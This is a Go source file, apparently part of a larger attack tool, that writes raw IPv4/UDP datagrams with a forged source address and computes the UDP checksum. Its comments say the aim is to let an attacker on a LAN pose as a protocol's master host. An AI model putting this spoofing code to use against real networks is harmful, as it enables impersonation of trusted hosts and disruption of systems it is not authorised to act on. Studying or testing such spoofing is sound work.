package main

import (
	"encoding/binary"
	"fmt"
	"net/netip"

	"golang.org/x/sys/unix"
)

// spoofSender writes whole IPv4 datagrams through a raw socket
// (IPPROTO_RAW: the header is ours), so the UDP source is any address: a
// host on the LAN, as the attacker is, can claim to be the master. The
// kernel fills in the IP checksum (and the ID when it is zero).
type spoofSender struct {
	fd  int
	src netip.AddrPort
}

func newSpoofSender(src netip.AddrPort) (sender, error) {
	if !src.Addr().Is4() {
		return nil, fmt.Errorf("-spoof %v: not IPv4", src)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("raw socket (needs NET_RAW): %w", err)
	}
	if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1); err != nil {
		unix.Close(fd)
		return nil, err
	}
	return &spoofSender{fd: fd, src: src}, nil
}

func (s *spoofSender) send(payload []byte, to netip.AddrPort) error {
	if !to.Addr().Is4() {
		return fmt.Errorf("%v: not IPv4", to)
	}
	const ipLen, udpLen = 20, 8
	b := make([]byte, ipLen+udpLen+len(payload))
	b[0] = 0x45 // version 4, 5 words of header
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	binary.BigEndian.PutUint16(b[6:], 0x4000) // DF
	b[8] = 64                                 // TTL
	b[9] = unix.IPPROTO_UDP
	srcIP, dstIP := s.src.Addr().As4(), to.Addr().As4()
	copy(b[12:16], srcIP[:])
	copy(b[16:20], dstIP[:])
	u := b[ipLen:]
	binary.BigEndian.PutUint16(u[0:], s.src.Port())
	binary.BigEndian.PutUint16(u[2:], to.Port())
	binary.BigEndian.PutUint16(u[4:], uint16(udpLen+len(payload)))
	copy(u[udpLen:], payload)
	binary.BigEndian.PutUint16(u[6:], udpChecksum(srcIP, dstIP, u))
	return unix.Sendto(s.fd, b, 0, &unix.SockaddrInet4{Addr: dstIP})
}

func (s *spoofSender) close() error { return unix.Close(s.fd) }

// udpChecksum is RFC 768's: the ones' complement sum over the pseudo
// header and the UDP datagram (its checksum field zero); 0 is sent as
// 0xffff, since 0 means "none".
func udpChecksum(src, dst [4]byte, udp []byte) uint16 {
	var sum uint32
	add := func(b []byte) {
		for len(b) >= 2 {
			sum += uint32(binary.BigEndian.Uint16(b))
			b = b[2:]
		}
		if len(b) == 1 {
			sum += uint32(b[0]) << 8
		}
	}
	add(src[:])
	add(dst[:])
	sum += unix.IPPROTO_UDP + uint32(len(udp))
	add(udp)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	if c := ^uint16(sum); c != 0 {
		return c
	}
	return 0xffff
}
